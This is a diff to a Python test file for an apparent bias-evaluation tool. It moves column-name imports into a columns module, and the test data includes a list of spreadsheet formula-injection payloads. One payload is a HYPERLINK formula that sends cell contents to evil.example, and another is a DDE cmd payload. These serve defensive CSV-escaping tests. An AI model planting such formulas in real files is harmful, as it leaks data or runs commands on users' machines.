@@ -9,10 +9,11 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
+from evenhand.evaluation import columns
 from evenhand.evaluation.csv_files import csv_text
 from evenhand.evaluation.data.response_files import write_prompt_table
 from evenhand.evaluation.errors import InputError
-from evenhand.evaluation.score import PERSONA, PROMPT_ID, TEXT, BiasScore, write_scores
+from evenhand.evaluation.score import BiasScore, write_scores
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", " \t=1", "'=1"]
 ROOT = Path(__file__).resolve().parents[2]
@@ -48,7 +49,9 @@ def test_values_come_back_as_they_were():
 
 
 def test_a_prompt_is_written_as_it_is_sent_or_not_at_all(tmp_path):
-    prompts = pd.DataFrame({PROMPT_ID: ["1", "2"], TEXT: ["Hi\u200b, a = b", "- a list"], PERSONA: ""})
+    prompts = pd.DataFrame(
+        {columns.PROMPT_ID: ["1", "2"], columns.TEXT: ["Hi\u200b, a = b", "- a list"], columns.PERSONA: ""}
+    )
     write_prompt_table(tmp_path / "p.csv", prompts[:1], "", "")
     assert "Hi\u200b, a = b" in cells((tmp_path / "p.csv").read_text(encoding="utf-8"))
     with pytest.raises(InputError, match=r"^write_prompts: .*'- a list'.*\.parquet"):
